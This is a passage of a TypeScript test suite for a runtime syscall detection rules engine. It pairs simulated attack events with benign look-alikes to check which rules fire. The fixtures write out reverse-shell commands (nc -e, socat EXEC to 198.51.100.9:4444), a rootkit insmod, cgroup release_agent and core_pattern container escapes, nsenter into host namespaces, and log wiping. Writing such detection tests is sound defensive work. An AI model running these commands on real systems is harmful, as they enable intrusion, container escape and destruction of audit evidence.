    about: 'Shell Started With Network Socket As Stdin',
    event: execEv(
      proc('/bin/sh', { parent: proc('nc -e /bin/sh 198.51.100.9 4444', { parent: WEB_SHELL }) }),
      WEB,
    ),
    fds: {
      0: {
        type: 'ipv4',
        name: '10.244.2.31:51514->198.51.100.9:4444',
        l4proto: 'tcp',
        cip: '10.244.2.31',
        cport: 51_514,
        sip: '198.51.100.9',
        sport: 4444,
        connected: true,
      },
      1: {
        type: 'ipv4',
        name: '10.244.2.31:51514->198.51.100.9:4444',
        l4proto: 'tcp',
        cip: '10.244.2.31',
        cport: 51_514,
        sip: '198.51.100.9',
        sport: 4444,
        connected: true,
      },
    },
    fires: [
      {
        rule: 'Shell Started With Network Socket As Stdin',
        fields: {
          'proc.name': 'sh',
          'proc.stdin.name': '10.244.2.31:51514->198.51.100.9:4444',
          'proc.pname': 'nc',
        },
      },
    ],
  },
  {
    what: 'sh started with pipes and a terminal as stdio',
    about: 'Shell Started With Network Socket As Stdin',
    event: execEv(proc('/bin/sh -c date', { parent: NODE_APP }), WEB),
    fds: {
      0: { type: 'pipe', name: 'pipe:[42]' },
      1: { type: 'pipe', name: 'pipe:[43]' },
      2: { type: 'file', name: '/dev/pts/0' },
    },
    fires: [],
  },

  // Netcat Or Socat Running A Program
  {
    what: 'nc -e /bin/sh',
    about: 'Netcat Or Socat Running A Program',
    event: execEv(proc('nc -e /bin/sh 198.51.100.9 4444', { parent: WEB_SHELL }), WEB),
    fires: [
      {
        rule: 'Netcat Or Socat Running A Program',
        fields: { 'proc.cmdline': 'nc -e /bin/sh 198.51.100.9 4444' },
      },
    ],
  },
  {
    what: 'socat connecting bash to a remote host',
    about: 'Netcat Or Socat Running A Program',
    event: execEv(proc('socat TCP:198.51.100.9:4444 EXEC:/bin/bash,pty,stderr', { parent: WEB_SHELL }), WEB),
    fires: [{ rule: 'Netcat Or Socat Running A Program', fields: { 'proc.name': 'socat' } }],
  },
  {
    what: 'busybox nc -e',
    about: 'Netcat Or Socat Running A Program',
    event: execEv(proc('/bin/busybox nc 198.51.100.9 4444 -e /bin/sh', { parent: WEB_SHELL }), WEB),
    fires: [{ rule: 'Netcat Or Socat Running A Program', fields: { 'proc.name': 'busybox' } }],
  },
  {
    what: 'nc -zv probes a database port',
    about: 'Netcat Or Socat Running A Program',
    event: execEv(proc('nc -zv db 5432', { parent: WEB_SHELL }), WEB),
    fires: [],
  },
  {
    what: 'socat as a TCP proxy',
    about: 'Netcat Or Socat Running A Program',
    event: execEv(proc('socat TCP-LISTEN:8080,fork TCP:10.0.0.5:80', { parent: SYSTEMD })),
    fires: [],
  },

  // Ptrace Attach To Process
  {
    what: 'an unknown program attaches to sshd',
    about: 'Ptrace Attach To Process',
    event: ptraceEv(proc('/tmp/inject 812', { parent: ROOT_SHELL }), 'PTRACE_ATTACH', 812),
    fires: [
      {
        rule: 'Ptrace Attach To Process',
        fields: {
          'evt.arg.request': 'PTRACE_ATTACH',
          'evt.arg.pid': '812',
          'proc.name': 'inject',
          'evt.res': 'SUCCESS',
        },
      },
    ],
  },
  {
    what: 'a Python script seizes a process in a container (refused: EPERM)',
    about: 'Ptrace Attach To Process',
    event: ptraceEv(proc('python3 dump.py 1', { parent: WEB_SHELL }), 'PTRACE_SEIZE', 1, WEB, -1),
    fires: [
      { rule: 'Ptrace Attach To Process', fields: { 'evt.arg.request': 'PTRACE_SEIZE', 'evt.res': 'EPERM' } },
    ],
  },
  {
    what: 'gdb attaches',
    about: 'Ptrace Attach To Process',
    event: ptraceEv(proc('gdb -p 812', { parent: ROOT_SHELL }), 'PTRACE_ATTACH', 812),
    fires: [],
  },
  {
    what: 'PTRACE_TRACEME (not an attach to another process)',
    about: 'Ptrace Attach To Process',
    event: ptraceEv(proc('/tmp/inject', { parent: ROOT_SHELL }), 'PTRACE_TRACEME', 0),
    fires: [],
  },
  {
    what: 'PTRACE_PEEKDATA',
    about: 'Ptrace Attach To Process',
    event: ptraceEv(proc('/tmp/inject', { parent: ROOT_SHELL }), 'PTRACE_PEEKDATA', 812),
    fires: [],
  },

  // Kernel Module Loaded
  {
    what: 'insmod of a rootkit on the host',
    about: 'Kernel Module Loaded',
    event: finitModuleEv(
      proc('insmod /tmp/diamorphine.ko', { name: 'insmod', exepath: '/usr/bin/kmod', parent: ROOT_SHELL }),
      '/tmp/diamorphine.ko',
    ),
    fires: [
      {
        rule: 'Kernel Module Loaded',
        fields: { 'fd.name': '/tmp/diamorphine.ko', 'evt.type': 'finit_module', 'proc.pname': 'bash' },
      },
    ],
  },
  {
    what: 'init_module from a privileged container',
    about: 'Kernel Module Loaded',
    event: withContainer(
      {
        type: 'init_module',
        res: 0,
        args: { res: 0, length: 16_384, uargs: '' },
        proc: proc('/tmp/loader', { parent: PRIV_SHELL }),
      },
      PRIV,
    ),
    fires: [
      { rule: 'Kernel Module Loaded', fields: { 'evt.type': 'init_module', 'container.id': 'a81be3c0f7d2' } },
    ],
  },
  {
    what: 'systemd-modules-load at boot',
    about: 'Kernel Module Loaded',
    event: finitModuleEv(
      proc('/usr/lib/systemd/systemd-modules-load', { parent: SYSTEMD }),
      '/usr/lib/modules/6.1.0/kernel/net/bridge/br_netfilter.ko',
    ),
    fires: [],
  },
  {
    what: "modprobe run for the kernel's own request (parent kworker)",
    about: 'Kernel Module Loaded',
    event: finitModuleEv(
      proc('/sbin/modprobe -q -- net-pf-10', { parent: proc('kworker', { pid: 73, name: 'kworker/u8:2' }) }),
      '/usr/lib/modules/6.1.0/kernel/net/ipv6/ipv6.ko',
    ),
    fires: [],
  },
  {
    what: 'modprobe run by kubelet',
    about: 'Kernel Module Loaded',
    event: finitModuleEv(
      proc('modprobe overlay', { parent: proc('/usr/bin/kubelet', { parent: SYSTEMD }) }),
      '/usr/lib/modules/6.1.0/kernel/fs/overlayfs/overlay.ko',
    ),
    fires: [],
  },

  // Kernel Module Tool Run In Container
  {
    what: 'insmod in a privileged container',
    about: 'Kernel Module Tool Run In Container',
    event: execEv(proc('insmod /tmp/rk.ko', { parent: PRIV_SHELL }), PRIV),
    fires: [
      {
        rule: 'Kernel Module Tool Run In Container',
        fields: { 'proc.name': 'insmod', 'container.privileged': true },
      },
    ],
  },
  {
    what: 'modprobe on the host (the module load itself is a separate event)',
    about: 'Kernel Module Tool Run In Container',
    event: execEv(proc('modprobe br_netfilter', { parent: ROOT_SHELL })),
    fires: [],
  },

  // Container Escape Via Kernel Hook File
  {
    what: 'a release_agent is set from a privileged container',
    about: 'Container Escape Via Kernel Hook File',
    event: openEv(PRIV_SHELL, '/tmp/cgrp/release_agent', ['O_WRONLY', 'O_CREAT', 'O_TRUNC'], PRIV),
    fires: [
      {
        rule: 'Container Escape Via Kernel Hook File',
        fields: { 'fd.name': '/tmp/cgrp/release_agent', 'container.privileged': true },
      },
    ],
  },
  {
    what: 'core_pattern is overwritten from a container',
    about: 'Container Escape Via Kernel Hook File',
    event: openEv(PRIV_SHELL, '/proc/sys/kernel/core_pattern', ['O_WRONLY', 'O_TRUNC'], PRIV),
    fires: [
      {
        rule: 'Container Escape Via Kernel Hook File',
        fields: { 'fd.name': '/proc/sys/kernel/core_pattern' },
      },
    ],
  },
  {
    what: 'systemd-sysctl sets core_pattern on the host',
    about: 'Container Escape Via Kernel Hook File',
    event: openEv(
      proc('/usr/lib/systemd/systemd-sysctl', { parent: SYSTEMD }),
      '/proc/sys/kernel/core_pattern',
      ['O_WRONLY'],
    ),
    fires: [],
  },
  {
    what: 'a release_agent is read in a container',
    about: 'Container Escape Via Kernel Hook File',
    event: openEv(
      proc('cat /sys/fs/cgroup/memory/release_agent', { parent: PRIV_SHELL }),
      '/sys/fs/cgroup/memory/release_agent',
      ['O_RDONLY'],
      PRIV,
    ),
    fires: [],
  },

  // Proc Sys Written From Container
  {
    what: 'sysctl enables IP forwarding from a container',
    about: 'Proc Sys Written From Container',
    event: openEv(
      proc('sysctl -w net.ipv4.ip_forward=1', { parent: PRIV_SHELL }),
      '/proc/sys/net/ipv4/ip_forward',
      ['O_WRONLY'],
      PRIV,
    ),
    fires: [
      {
        rule: 'Proc Sys Written From Container',
        fields: { 'fd.name': '/proc/sys/net/ipv4/ip_forward', 'proc.name': 'sysctl' },
      },
    ],
  },
  {
    what: "runc applies the pod's sysctls",
    about: 'Proc Sys Written From Container',
    event: openEv(RUNC_INIT, '/proc/sys/net/ipv4/ip_unprivileged_port_start', ['O_WRONLY', 'O_TRUNC'], WEB),
    fires: [],
  },
  {
    what: 'sysctl on the host',
    about: 'Proc Sys Written From Container',
    event: openEv(
      proc('sysctl -w vm.max_map_count=262144', { parent: ROOT_SHELL }),
      '/proc/sys/vm/max_map_count',
      ['O_WRONLY'],
    ),
    fires: [],
  },
  {
    what: 'reading a kernel parameter in a container',
    about: 'Proc Sys Written From Container',
    event: openEv(NODE_APP, '/proc/sys/net/core/somaxconn', ['O_RDONLY'], WEB),
    fires: [],
  },

  // Mount Executed In Container
  {
    what: "the host's disk is mounted in a privileged container",
    about: 'Mount Executed In Container',
    event: mountEv(proc('mount /dev/sda1 /mnt', { parent: PRIV_SHELL }), '/dev/sda1', '/mnt', 'ext4', PRIV),
    fires: [
      {
        rule: 'Mount Executed In Container',
        fields: {
          'evt.arg.dev': '/dev/sda1',
          'evt.arg.dir': '/mnt',
          'evt.res': 'SUCCESS',
          'container.id': 'a81be3c0f7d2',
        },
      },
    ],
  },
  {
    what: 'a refused cgroup mount in an unprivileged container',
    about: 'Mount Executed In Container',
    event: mountEv(
      proc('mount -t cgroup -o rdma cgroup /tmp/cgrp', { parent: WEB_SHELL }),
      'cgroup',
      '/tmp/cgrp',
      'cgroup',
      WEB,
      -1,
    ),
    fires: [
      { rule: 'Mount Executed In Container', fields: { 'evt.res': 'EPERM', 'evt.arg.type': 'cgroup' } },
    ],
  },
  {
    what: "runc mounts the container's /proc",
    about: 'Mount Executed In Container',
    event: mountEv(RUNC_INIT, 'proc', '/proc', 'proc', WEB),
    fires: [],
  },
  {
    what: 'a mount on the host',
    about: 'Mount Executed In Container',
    event: mountEv(proc('mount /dev/sdb1 /data', { parent: ROOT_SHELL }), '/dev/sdb1', '/data', 'xfs'),
    fires: [],
  },

  // Namespace Change In Container
  {
    what: 'nsenter -t 1 -a in a privileged hostPID container',
    about: 'Namespace Change In Container',
    event: execEv(proc('nsenter -t 1 -a /bin/bash', { parent: PRIV_SHELL }), PRIV),
    fires: [
      { rule: 'Namespace Change In Container', fields: { 'evt.type': 'execve', 'proc.name': 'nsenter' } },
    ],
  },
  {
    what: "nsenter joins the host's mount namespace",
    about: 'Namespace Change In Container',
    event: setnsEv(
      proc('nsenter -t 1 -a /bin/bash', { parent: PRIV_SHELL }),
      '/proc/1/ns/mnt',
      'CLONE_NEWNS',
      PRIV,
    ),
    fires: [
      {
        rule: 'Namespace Change In Container',
        fields: { 'evt.type': 'setns', 'fd.name': '/proc/1/ns/mnt', 'evt.arg.nstype': 'CLONE_NEWNS' },
      },
    ],
  },
  {
    what: 'runc joins the namespaces of a container for kubectl exec',
    about: 'Namespace Change In Container',
    event: setnsEv(
      proc('runc init', { name: 'runc:[1:CHILD]', exepath: '/usr/bin/runc', parent: CONTAINERD_SHIM }),
      '/proc/48102/ns/pid',
      'CLONE_NEWPID',
      WEB,
    ),
    fires: [],
  },
  {
    what: 'nsenter on the host',
    about: 'Namespace Change In Container',
    event: execEv(proc('nsenter -t 48102 -n ss -tlnp', { parent: ROOT_SHELL })),
    fires: [],
  },

  // Log File Cleared
  {
    what: '> /var/log/auth.log',
    about: 'Log File Cleared',
    event: openEv(ROOT_SHELL, '/var/log/auth.log', ['O_WRONLY', 'O_CREAT', 'O_TRUNC']),
    fires: [
      {
        rule: 'Log File Cleared',
        fields: { 'fs.path.name': '/var/log/auth.log', 'evt.type': 'openat', 'proc.name': 'bash' },
      },
    ],
  },
  {
    what: 'rm of an access log in a container',
    about: 'Log File Cleared',
    event: unlinkatEv(
      proc('rm -f /var/log/nginx/access.log', { parent: WEB_SHELL }),
      '/var/log/nginx/access.log',
      WEB,
    ),
    fires: [
      {
        rule: 'Log File Cleared',
        fields: { 'fs.path.name': '/var/log/nginx/access.log', 'container.id': '3f1c0a7d92b4' },
      },
    ],
  },
  {
    what: 'a script deletes syslog with unlink',
    about: 'Log File Cleared',
    event: {
      type: 'unlink',
      res: 0,
      args: { res: 0, path: '/var/log/syslog' },
      proc: proc('python3 wipe.py', { parent: ROOT_SHELL }),
    },
    fires: [
      { rule: 'Log File Cleared', fields: { 'fs.path.name': '/var/log/syslog', 'evt.type': 'unlink' } },
    ],
  },
  {
    what: 'shred of wtmp',
    about: 'Log File Cleared',
    event: execEv(proc('shred -u -z /var/log/wtmp', { parent: ROOT_SHELL })),
    fires: [
      {
        rule: 'Log File Cleared',
        fields: { 'proc.cmdline': 'shred -u -z /var/log/wtmp', 'fs.path.name': null },
      },
    ],
  },
  {
    what: 'logrotate deletes an old rotated log',
    about: 'Log File Cleared',
    event: unlinkatEv(
      proc('/usr/sbin/logrotate /etc/logrotate.conf', { parent: SYSTEMD }),
      '/var/log/syslog.4.gz',
    ),
    fires: [],
  },
  {
    what: 'gzip run by logrotate writes a compressed log',
    about: 'Log File Cleared',
    event: openEv(
      proc('gzip -f /var/log/syslog.2', {
        parent: proc('/usr/sbin/logrotate /etc/logrotate.conf', { parent: SYSTEMD }),
      }),
      '/var/log/syslog.2.gz',
      ['O_WRONLY', 'O_CREAT', 'O_TRUNC'],
    ),
    fires: [],
  },
  {
    what: 'rsyslogd appends to syslog',
    about: 'Log File Cleared',
    event: openEv(proc('/usr/sbin/rsyslogd -n', { parent: SYSTEMD }), '/var/log/syslog', [
      'O_WRONLY',
      'O_CREAT',
      'O_APPEND',
    ]),
    fires: [],
  },
  {
    what: '> /tmp/out.txt',
    about: 'Log File Cleared',
    event: openEv(ROOT_SHELL, '/tmp/out.txt', ['O_WRONLY', 'O_CREAT', 'O_TRUNC']),
    fires: [],
  },
  {
    what: 'a failed unlink below /var/log (ENOENT)',
    about: 'Log File Cleared',
    event: unlinkatEv(
      proc('rm -f /var/log/missing.log', { parent: ROOT_SHELL }),
      '/var/log/missing.log',
      undefined,
      -2,
    ),
    fires: [],
  },

  // Execution From Dev Shm
  {
    what: 'a program in /dev/shm',
    about: 'Execution From Dev Shm',
    event: execEv(proc('/dev/shm/.cache/kworkerd', { parent: ROOT_SHELL })),
    fires: [
      {
        rule: 'Execution From Dev Shm',
        fields: { 'proc.exepath': '/dev/shm/.cache/kworkerd', 'proc.name': 'kworkerd' },
      },
    ],
  },
  {
    what: 'sh runs a script from /dev/shm in a container',
    about: 'Execution From Dev Shm',
    event: execEv(proc('/bin/sh /dev/shm/x.sh', { parent: WEB_SHELL }), WEB),
    fires: [{ rule: 'Execution From Dev Shm', fields: { 'proc.name': 'sh' } }],
  },
  {
    what: './payload with /dev/shm as working directory',
    about: 'Execution From Dev Shm',
    event: execEv(
      proc('./payload', { exepath: '/dev/shm/payload', cwd: '/dev/shm/', parent: WEB_SHELL }),
      WEB,
    ),
    fires: [{ rule: 'Execution From Dev Shm', fields: { 'proc.cwd': '/dev/shm/' } }],
  },
  {
    what: 'ls with /dev/shm as working directory',
    about: 'Execution From Dev Shm',
    event: execEv(proc('ls -la', { cwd: '/dev/shm/', parent: ROOT_SHELL })),
    fires: [],
  },
  {
    what: 'cat of a file in /dev/shm',
    about: 'Execution From Dev Shm',
    event: execEv(proc('cat /dev/shm/notes', { parent: ROOT_SHELL })),
    fires: [],
  },

  // Fileless Execution From Memfd
  {
    what: 'a payload executed from a memfd in a container',
    about: 'Fileless Execution From Memfd',
    event: execEv(
      proc('/proc/self/fd/3', {
        name: '3',
        exepath: 'memfd:x (deleted)',
        is_exe_from_memfd: true,
        parent: WEB_SHELL,
      }),
      WEB,
    ),
    fires: [
      {
        rule: 'Fileless Execution From Memfd',
        fields: { 'proc.exepath': 'memfd:x (deleted)', 'container.id': '3f1c0a7d92b4' },
      },
    ],
  },
  {
    what: 'runc re-executes its cloned copy',
    about: 'Fileless Execution From Memfd',
    event: execEv(
      proc('/proc/self/fd/7 init', {
        name: 'runc',
        exepath: 'memfd:runc_cloned:/proc/self/exe',
        is_exe_from_memfd: true,
        parent: CONTAINERD_SHIM,
      }),
    ),
    fires: [],
  },
  {
    what: 'an ordinary program',
    about: 'Fileless Execution From Memfd',
    event: execEv(proc('/usr/bin/ls', { is_exe_from_memfd: false, parent: ROOT_SHELL })),
    fires: [],
  },

  // Outbound Connection From Server Process
  {
    what: 'nginx connects to a public address',
    about: SERVER_OUT,
    event: connectEv(nginx, { cip: '10.244.2.40', cport: 51_000, sip: '203.0.113.50', sport: 443 }, WEB),
    fires: [
      { rule: SERVER_OUT, fields: { 'proc.name': 'nginx', 'fd.sip': '203.0.113.50', 'fd.sport': 443 } },
    ],
  },
  {
    what: 'postgres reaches the cloud metadata service',
    about: SERVER_OUT,
    event: connectEv(postgres, { cip: '10.244.3.7', cport: 40_100, sip: '169.254.169.254', sport: 80 }, API),
    fires: [{ rule: SERVER_OUT, fields: { 'proc.name': 'postgres', 'fd.sip': '169.254.169.254' } }],
  },
  {
    what: 'nginx connects to its upstream on the pod network',
    about: SERVER_OUT,
    event: connectEv(nginx, { cip: '10.244.2.40', cport: 51_001, sip: '10.0.3.15', sport: 8080 }, WEB),
    fires: [],
  },
  {
    what: "nginx's resolver queries a public DNS server (UDP)",
    about: SERVER_OUT,
    event: connectEv(
      nginx,
      { cip: '10.244.2.40', cport: 51_002, sip: '8.8.8.8', sport: 53, l4proto: 'udp' },
      WEB,
    ),
    fires: [],
  },
  {
    what: 'nginx talks to php-fpm on loopback',
    about: SERVER_OUT,
    event: connectEv(nginx, { cip: '127.0.0.1', cport: 51_003, sip: '127.0.0.1', sport: 9000 }, WEB),
    fires: [],
  },
  {
    what: 'curl reaches the internet (not a server process)',
    about: SERVER_OUT,
    event: connectEv(proc('curl https://example.com', { parent: ALICE_SHELL }), {
      cip: '192.168.1.20',
      cport: 51_004,
      sip: '93.184.216.34',
      sport: 443,
    }),
    fires: [],
  },
];

// ---------------------------------------------------------------------------------------------
// Running the cases

const BASE_TS = 1_773_500_000_000_000_000n;

function caseTs(i: number): bigint {
  return BASE_TS + BigInt(i) * 1_000_000n;
}

function caseLine(c: Case, i: number): string {
  return JSON.stringify({ ...c.event, ts: caseTs(i).toString() });
}

function parseLine(text: string, num: number): SyscallEvent {
  const r = parseSyscallLine(
    text,
    num,
    () => num,
    () => 0n,
  );
  if (r.issue) throw new Error(`case line ${num} does not parse: ${r.issue.reason}`);
  const ev = r.events[0];
  if (!ev) throw new Error(`case line ${num} gave no event`);
  return ev;
}

/** The case's event as the engine sees it (with the fd table when the case has one). */
function caseEvent(c: Case, i: number): SyscallEvent {
  const ev = parseLine(caseLine(c, i), i + 1);
  if (c.fds) {
    ev.thread.fds = new Map(Object.entries(c.fds).map(([n, fd]) => [Number(n), { ...fd, num: Number(n) }]));
  }
  return ev;
}

interface Seen {
  rule: string;
  priority: string;
  fields: Record<string, unknown>;
  output: string;
}

function fromAlert(a: Alert): Seen {
  return { rule: a.rule, priority: priorityLabel(a.priority), fields: a.outputFields, output: a.output };
}

function ruleNames(): string[] {
  const doc = parseYaml(rulesText) as Record<string, unknown>[];
  return doc.filter((item) => typeof item.rule === 'string').map((item) => item.rule as string);
}

function loadBundled(extra: { name: string; content: string }[] = []): LoadResult {
  return loadRules([{ name: RULES_FILE, content: rulesText }, ...extra]);
}

function caseLabel(c: Case): string {
  return `${c.about}: ${c.what}`;
}

describe('rules/vigil_rules.yaml', () => {
  let loaded: LoadResult;
  beforeAll(() => {
    loaded = loadBundled();
  });

  describe('loading', () => {
    it('loads with no error and no warning', () => {
      expect(loaded.diagnostics).toEqual([]);
      expect(loaded.ok).toBe(true);
      expect(loaded.rules.map((r) => r.name)).toEqual(ruleNames());
      expect(loaded.rules.every((r) => r.source === 'syscall' && r.enabled)).toBe(true);
    });

    it('loads together with the k8s audit rules (the bundled rules directory)', () => {
      const both = loadRules([
        { name: K8S_RULES_FILE, content: readFileSync(K8S_RULES_FILE, 'utf8') },
        { name: RULES_FILE, content: rulesText },
      ]);
      expect(both.diagnostics).toEqual([]);
      expect(both.rules.filter((r) => r.source === 'syscall').map((r) => r.name)).toEqual(ruleNames());
    });

    it('every rule is restricted to a few event types', () => {
      for (const r of loaded.rules) {
        expect(r.eventTypes, r.name).not.toBeNull();
        expect(r.eventTypes!.size, r.name).toBeLessThanOrEqual(10);
      }
    });

    it('every rule has a description, a MITRE ATT&CK tactic and technique, and the priority tested here', () => {
      for (const r of loaded.rules) {
        expect(r.desc.length, r.name).toBeGreaterThan(80);
        expect(
          r.tags.some((t) => /^mitre_[a-z_]+$/.test(t)),
          r.name,
        ).toBe(true);
        expect(
          r.tags.some((t) => /^T\d{4}(\.\d{3})?$/.test(t)),
          r.name,
        ).toBe(true);
        expect(priorityLabel(r.priority), r.name).toBe(PRIORITY[r.name]);
      }
      expect(Object.keys(PRIORITY).sort()).toEqual(ruleNames().sort());
    });

    it('`vigil rules validate rules/` lists the file as Ok', () => {
      const r = runVigil(['rules', 'validate', 'rules/']);
      expect(r.stderr).toBe('');
      expect(r.stdout).toContain('rules/vigil_rules.yaml: Ok');
      expect(r.stdout).toContain('rules/vigil_k8s_audit_rules.yaml: Ok');
      expect(r.status).toBe(0);
    });

    describe.skipIf(!haveFixtures)("next to Falco's default rules", () => {
      it.skipIf(!haveFixtures)(
        `loads without redefining or being redefined (${haveFixtures ? 'fixtures present' : FIXTURES_SKIP_REASON})`,
        () => {
          const falcoPath = fixturePath('rules', 'falcosecurity-rules', 'main', 'falco_rules.yaml');
          const falco = { name: falcoPath, content: readFileSync(falcoPath, 'utf8') };
          const alone = loadRules([falco]);
          const together = loadRules([falco, { name: RULES_FILE, content: rulesText }]);
          expect(together.diagnostics).toEqual([]);
          expect(together.rules.map((r) => r.name)).toEqual([
            ...alone.rules.map((r) => r.name),
            ...ruleNames(),
          ]);
          // Falco's compiled rules are unchanged by loading ours after them (no shared list or macro name).
          expect(together.rules.slice(0, alone.rules.length).map((r) => r.compiledCondition)).toEqual(
            alone.rules.map((r) => r.compiledCondition),
          );
        },
      );
    });
  });

  describe('cases', () => {
    it('every rule has at least one case that raises it and one nearby case that does not', () => {
      for (const name of ruleNames()) {
        const about = CASES.filter((c) => c.about === name);
        expect(
          about.some((c) => c.fires.some((f) => f.rule === name)),
          `${name}: positive`,
        ).toBe(true);
        expect(
          about.some((c) => !c.fires.some((f) => f.rule === name)),
          `${name}: negative`,
        ).toBe(true);
      }
      const known = new Set(ruleNames());
      for (const c of CASES) {
        expect(known.has(c.about), caseLabel(c)).toBe(true);
        for (const f of c.fires) expect(known.has(f.rule), caseLabel(c)).toBe(true);
      }
    });

    describe('through the engine (rule_matching: all)', () => {
      let seen: Seen[][];
      beforeAll(() => {
        const engine = createEngine(loaded, { ruleMatching: 'all' });
        seen = CASES.map((c, i) => engine.process(caseEvent(c, i)).map(fromAlert));
      });

      it.each(CASES.map((c, i) => [caseLabel(c), i] as const))('%s', (_label, i) => {
        const c = CASES[i]!;
        const got = seen[i]!;
        expect(got.map((s) => s.rule).sort()).toEqual(c.fires.map((f) => f.rule).sort());
        for (const want of c.fires) {
          const alert = got.find((s) => s.rule === want.rule)!;
          expect(alert.priority).toBe(PRIORITY[want.rule]);
          for (const [field, value] of Object.entries(want.fields ?? {})) {
            expect(alert.fields[field], `${want.rule}: ${field}`).toEqual(value);
          }
          // Every alert says where it happened.
          expect(alert.fields).toHaveProperty('container.id');
          expect(alert.fields).toHaveProperty('proc.name');
          expect(alert.output).not.toContain('%');
        }
      });

      it('with rule_matching: first, each event raises only the first of its rules', () => {
        const engine = createEngine(loaded, { ruleMatching: 'first' });
        const order = ruleNames();
        CASES.forEach((c, i) => {
          const got = engine.process(caseEvent(c, i)).map((a) => a.rule);
          const first = [...c.fires].sort((a, b) => order.indexOf(a.rule) - order.indexOf(b.rule))[0];
          expect(got, caseLabel(c)).toEqual(first ? [first.rule] : []);
        });
      });
    });

    describe('through `vigil replay` (runReplay, JSON output)', () => {
      let dir = '';
      const replayable = CASES.map((c, i) => ({ c, i })).filter(({ c }) => !c.fds);
      let summary: ReplaySummary;
      let alerts: { rule: string; priority: string; time: string; output_fields: Record<string, unknown> }[];

      beforeAll(async () => {
        dir = mkdtempSync(join(tmpdir(), 'vigil-rules-'));
        const file = join(dir, 'cases.jsonl');
        writeFileSync(file, replayable.map(({ c, i }) => caseLine(c, i)).join('\n') + '\n');
        const stdout = new PassThrough();
        const stderr = new PassThrough();
        let out = '';
        stdout.on('data', (b: Buffer) => (out += b.toString()));
        stderr.resume();
        summary = await runReplay({
          rules: [RULES_FILE],
          events: [file],
          json: true,
          ruleMatching: 'all',
          stdout,
          stderr,
        });
        alerts = out
          .split('\n')
          .filter((l) => l !== '')
          .map((l) => JSON.parse(l) as (typeof alerts)[number]);
      });
      afterAll(() => rmSync(dir, { recursive: true, force: true }));

      it('reads every case line and raises exactly the expected rules per event', () => {
        expect(summary.exitCode).toBe(0);
        expect(summary.loadDiagnostics).toEqual([]);
        expect(summary.stats.malformed).toBe(0);
        expect(summary.stats.events).toBe(replayable.length);
        const byTime = new Map<string, string[]>();
        for (const a of alerts) byTime.set(a.time, [...(byTime.get(a.time) ?? []), a.rule]);
        for (const { c, i } of replayable) {
          const got = (byTime.get(formatIsoTime(caseTs(i))) ?? []).sort();
          expect(got, caseLabel(c)).toEqual(c.fires.map((f) => f.rule).sort());
        }
        expect(alerts.length).toBe(replayable.reduce((n, { c }) => n + c.fires.length, 0));
        for (const a of alerts) expect(a.priority).toBe(PRIORITY[a.rule]);
      });
    });
  });

  describe('tuning as docs/rules.md describes it', () => {
    const shellCase = CASES.findIndex(
      (c) => c.about === 'Interactive Shell In Container' && c.fires.length > 0,
    );
    const ptraceCase = CASES.findIndex((c) => c.about === 'Ptrace Attach To Process' && c.fires.length > 0);

    function firesWith(overrides: string, i: number): string[] {
      const tuned = loadBundled([{ name: 'tuning.yaml', content: overrides }]);
      expect(tuned.diagnostics).toEqual([]);
      return createEngine(tuned, { ruleMatching: 'all' })
        .process(caseEvent(CASES[i]!, i))
        .map((a) => a.rule);
    }

    it('appending to a list allows a program', () => {
      expect(firesWith('', ptraceCase)).toEqual(['Ptrace Attach To Process']);
      const tuning = [
        '- list: vigil_ptrace_allowed_programs',
        '  items: [inject]',
        '  override:',
        '    items: append',
        '',
      ].join('\n');
      expect(firesWith(tuning, ptraceCase)).toEqual([]);
    });

    it("appending values to a rule's exception allows one namespace and image", () => {
      const tuning = (ns: string): string =>
        [
          '- rule: Interactive Shell In Container',
          '  exceptions:',
          '    - name: namespace_and_image',
          '      values:',
          `        - [${ns}, registry.example.com/shop/web]`,
          '  override:',
          '    exceptions: append',
          '',
        ].join('\n');
      expect(firesWith(tuning('shop'), shellCase)).toEqual([]);
      expect(firesWith(tuning('staging'), shellCase)).toEqual(['Interactive Shell In Container']);
    });

    it('appending to a macro adds a detection', () => {
      const i = CASES.findIndex((c) => c.what === 'ntpq asks for a stratum (not a Stratum URL)');
      expect(firesWith('', i)).toEqual([]);
      const tuning = [
        '- macro: vigil_miner_args',
        '  condition: or proc.args contains "rv 0 stratum"',
        '  override:',
        '    condition: append',
        '',
      ].join('\n');
      expect(firesWith(tuning, i)).toEqual(['Crypto Miner Launched']);
    });

    it('every YAML example of docs/rules.md loads on top of the bundled files without a diagnostic', () => {
      const doc = readFileSync(join(REPO_ROOT, 'docs', 'rules.md'), 'utf8');
      const snippets = [...doc.matchAll(/```yaml\n([\s\S]*?)```/g)].map((m) => m[1] ?? '');
      expect(snippets.length).toBeGreaterThanOrEqual(10);
      const bundled = [
        { name: K8S_RULES_FILE, content: readFileSync(K8S_RULES_FILE, 'utf8') },
        { name: RULES_FILE, content: rulesText },
      ];
      snippets.forEach((content, i) => {
        const r = loadRules([...bundled, { name: `docs/rules.md#yaml-${i + 1}`, content }]);
        expect(r.diagnostics, content).toEqual([]);
      });
    });

    it('a rule can be disabled', () => {
      const tuning = [
        '- rule: Interactive Shell In Container',
        '  enabled: false',
        '  override:',
        '    enabled: replace',
        '',
      ].join('\n');
      expect(firesWith(tuning, shellCase)).toEqual([]);
    });
  });

  describe('a benign workload', () => {
    const lines = readFileSync(BENIGN_FILE, 'utf8')
      .split('\n')
      .filter((l) => l.trim() !== '');

    it('raises no alert', async () => {
      const stdout = new PassThrough();
      const stderr = new PassThrough();
      let out = '';
      stdout.on('data', (b: Buffer) => (out += b.toString()));
      stderr.resume();
      const summary = await runReplay({
        rules: [RULES_FILE],
        events: [BENIGN_FILE],
        json: true,
        ruleMatching: 'all',
        stdout,
        stderr,
      });
      expect(summary.exitCode).toBe(0);
      expect(summary.stats.malformed).toBe(0);
      expect(summary.stats.events).toBe(lines.length);
      expect(out).toBe('');
      expect(summary.alerts).toBe(0);
    });

    it('is made of events the rules examine (so the silence means something)', () => {
      const types = new Set<string>();
      for (const r of loaded.rules) for (const t of r.eventTypes ?? []) types.add(t);
      const kinds = new Set<string>();
      lines.forEach((l, i) => {
        const ev = parseLine(l, i + 1);
        expect(types.has(ev.type), `line ${i + 1}: ${ev.type}`).toBe(true);
        kinds.add(ev.type);
      });
      // Process starts, file opens, renames, deletes and connections all appear.
      for (const t of [
        'execve',
        'openat',
        'renameat2',
        'unlinkat',
        'connect',
        'mount',
        'setns',
        'finit_module',
      ])
        expect(kinds.has(t), t).toBe(true);
      expect(lines.length).toBeGreaterThanOrEqual(40);
    });
  });

  describe('examples/syscall-events.jsonl', () => {
    /** Line number → the rules of this file it raises (rule_matching: all). */
    const EXPECTED_EXAMPLES: Record<number, string[]> = {
      1: [],
